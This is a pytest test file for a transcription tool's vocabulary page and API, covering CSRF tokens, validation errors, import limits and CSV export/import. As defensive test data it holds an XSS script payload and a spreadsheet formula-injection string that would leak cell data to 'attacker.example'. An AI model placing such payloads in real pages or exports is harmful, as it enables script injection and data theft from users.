"""The vocabulary as a page, and over the API."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator

import httpx
import pytest
from sqlalchemy import Engine

from transcription_dagster.database import vocabulary
from transcription_dagster.model import Term
from transcription_dagster.web.guard import CSRF_FIELD, CSRF_HEADER
from transcription_dagster_tests.corrections.test_suggestions import Archive
from transcription_dagster_tests.web.conftest import Site
from transcription_dagster_tests.web.csrf_page import csrf_headers

pytestmark = pytest.mark.slow

HOSTILE = "<script>alert(1)</script>\"'"


@pytest.fixture
def site_of(engine: Engine, serve: Callable[..., Site]) -> Site:
    url = engine.url.render_as_string(hide_password=False).replace("postgresql+psycopg", "postgresql")
    return serve(database_url=url, embedder="none")


@pytest.fixture
def visitor(site_of: Site) -> Iterator[httpx.Client]:
    with site_of.client(headers={"Accept": "text/html"}) as client:
        yield client


def send(client: httpx.Client, form: str, **fields: str) -> httpx.Response:
    token = csrf_headers(client, "/vocabulary")[CSRF_HEADER]
    return client.post(f"/vocabulary/{form}", data={CSRF_FIELD: token, **fields})


def test_terms_are_added_changed_and_removed_with_forms_alone(visitor: httpx.Client, engine: Engine) -> None:
    assert (
        send(visitor, "terms", term="Quillonite", variants="quill on ite\nquillo night", weight="2").status_code == 303
    )
    assert vocabulary.terms(engine) == (Term("Quillonite", ("quill on ite", "quillo night"), "", 2.0),)
    send(visitor, "terms", old_text="Quillonite", term="Quillonyte", variants="", weight="", category="rock")
    assert vocabulary.terms(engine) == (Term("Quillonyte", (), "rock", 1.0),)
    send(visitor, "removals", term="Quillonyte")
    assert vocabulary.terms(engine) == ()


def test_a_form_without_the_pages_token_changes_nothing(visitor: httpx.Client, engine: Engine) -> None:
    assert visitor.post("/vocabulary/terms", data={"term": "Grafana"}).status_code == 422
    assert vocabulary.terms(engine) == ()


def test_a_refused_form_keeps_what_was_typed(visitor: httpx.Client, engine: Engine) -> None:
    vocabulary.put(engine, [Term("Quillonite")])
    new = send(visitor, "terms", term="Grafana", variants="grifana", category="tool", weight="heavy").text
    assert [text in new for text in ('value="Grafana"', ">grifana<", 'value="tool"', 'value="heavy"')] == [True] * 4
    assert "<details open>" not in new
    edited = send(visitor, "terms", old_text="Quillonite", term="Quillonyte", variants="", weight="0").text
    assert "<details open><summary>Edit</summary>" in edited
    assert 'value="Quillonyte"' in edited
    assert "weight: heavy" in send(visitor, "import", document="- weight: heavy").text
    assert vocabulary.terms(engine) == (Term("Quillonite"),)


def test_errors_are_shown_on_the_page_and_hostile_terms_are_text(visitor: httpx.Client, engine: Engine) -> None:
    answer = send(visitor, "terms", term="Grafana", weight="-1")
    assert answer.status_code == 422
    assert "is not a number above 0" in answer.text
    send(visitor, "terms", term=HOSTILE, variants=HOSTILE, category=HOSTILE, weight="1")
    assert vocabulary.terms(engine)[0].text == HOSTILE
    assert "<script>alert" not in visitor.get("/vocabulary").text


def test_an_import_that_is_too_large_is_refused_on_the_page(visitor: httpx.Client, engine: Engine) -> None:
    answer = send(visitor, "import", document="term\n" + "x" * 1_000_001)
    assert (answer.status_code, vocabulary.terms(engine)) == (413, ())
    assert "This is larger than 1 MB. Import the terms in parts." in answer.text


@pytest.mark.parametrize("path", ["nothing", "terms"])
def test_an_address_below_the_vocabulary_is_no_page_of_dagster(visitor: httpx.Client, path: str) -> None:
    answer = visitor.get(f"/vocabulary/{path}")
    assert (answer.status_code, "There is nothing at this address." in answer.text) == (404, True)


def test_an_export_can_be_imported(visitor: httpx.Client, engine: Engine) -> None:
    terms = (Term("Grafana", ("grifana", "gra fauna"), "tool", 2.5), Term("NO, 1", (), "", 1.0))
    vocabulary.put(engine, terms)
    exported = visitor.get("/api/vocabulary.csv").text
    vocabulary.replace(engine, ())
    assert send(visitor, "import", document=exported).status_code == 303
    assert vocabulary.terms(engine) == terms
    assert send(visitor, "import", document="- term: Loki\n  variants: [low key]\n").status_code == 303
    assert vocabulary.terms(engine)[1] == Term("Loki", ("low key",), "", 1.0)
    assert "line 2" in send(visitor, "import", document="term,weight\nTempo,heavy\n").text


def test_an_exported_term_is_no_formula_and_is_imported_as_it_was(visitor: httpx.Client, engine: Engine) -> None:
    formula = '=HYPERLINK("https://attacker.example/?"&A2)'
    terms = tuple(Term(text, (text,), text) for text in (formula, "'=1", "'quoted'", "+1", "-able", "@name"))
    vocabulary.put(engine, terms)
    exported = visitor.get("/api/vocabulary.csv").text
    cells = [cell for row in csv.reader(exported.splitlines()) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    vocabulary.replace(engine, ())
    assert send(visitor, "import", document=exported).status_code == 303
    assert set(vocabulary.terms(engine)) == set(terms)


def test_a_suggestion_links_to_its_moments_and_is_accepted(visitor: httpx.Client, engine: Engine) -> None:
    archive = Archive(engine)
    for _ in range(3):
        archive.corrected("we found quill on ite", "we found Quillonite")
    page = visitor.get("/vocabulary").text
    assert "misheard as “quill on ite” 3 times" in page
    assert "?view=corrected&amp;t=1.00" in page
    send(visitor, "suggestions", term="Quillonite", variant="quill on ite", accept="yes")
    assert vocabulary.terms(engine) == (Term("Quillonite", ("quill on ite",), "", 1.0),)
    assert "misheard as “" not in visitor.get("/vocabulary").text


def test_other_programs_do_the_same_over_the_api(site_of: Site, engine: Engine) -> None:
    with site_of.client() as program:
        answer = program.put("/api/vocabulary/terms", json={"text": "Grafana", "variants": ["grifana"]})
        assert answer.json()["terms"] == [{"text": "Grafana", "variants": ["grifana"], "category": "", "weight": 1.0}]
        assert program.put("/api/vocabulary/terms", json={"text": " "}).status_code == 422
        body = {"document": "term\nLoki\n", "format": "csv"}
        assert len(program.post("/api/vocabulary/import", json=body).json()["terms"]) == 2
        assert len(program.post("/api/vocabulary/removals", json={"text": "Loki"}).json()["terms"]) == 1
        decided = {"term": "Loki", "variant": "low key", "accept": True}
        assert len(program.post("/api/vocabulary/suggestions", json=decided).json()["terms"]) == 2
